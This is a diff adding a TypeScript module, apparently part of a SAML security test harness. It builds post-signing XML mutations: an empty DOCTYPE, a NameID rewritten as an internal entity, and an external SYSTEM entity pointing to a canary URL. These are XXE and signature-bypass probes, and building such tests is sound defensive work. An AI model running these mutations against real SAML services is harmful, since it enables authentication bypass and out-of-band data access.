@@ -1,0 +1,37 @@
+/** Document type declarations and the entities that they bring: text from elsewhere in a signed message. */
+
+import type { Mutation } from '../protocol/types.ts';
+import { escapeAttribute } from '../protocol/xml.ts';
+import { innerOf, insertAt } from '../protocol/xml-text.ts';
+import { first } from './elements.ts';
+import { withNameIdContent } from './victim.ts';
+
+/** Puts a declaration without a subset before the root element. */
+export function emptyDoctype(): Mutation {
+  return { afterSigning: (xml) => withDoctype(xml) };
+}
+
+/** The NameID is written as an internal entity that stands for the very text that was signed. */
+export function nameIdAsEntity(): Mutation {
+  return {
+    afterSigning: (xml) => {
+      const content = innerOf(xml, first(xml, 'NameID'));
+      return withDoctype(withNameIdContent(xml, '&who;'), `<!ENTITY who "${content.replaceAll('&', '&#38;')}">`);
+    },
+  };
+}
+
+/** An external entity that names the canary stands behind the signed text of the NameID. */
+export function nameIdWithExternalEntity(): Mutation {
+  return {
+    afterSigning: (xml, facts) => {
+      const behindText = insertAt(xml, first(xml, 'NameID').closeStart, '&far;');
+      return withDoctype(behindText, `<!ENTITY far SYSTEM "${escapeAttribute(facts.canaryUrl)}">`);
+    },
+  };
+}
+
+function withDoctype(xml: string, subset = ''): string {
+  const root = first(xml, 'Response');
+  return insertAt(xml, root.start, `<!DOCTYPE ${root.name}${subset === '' ? '' : ` [${subset}]`}>`);
+}
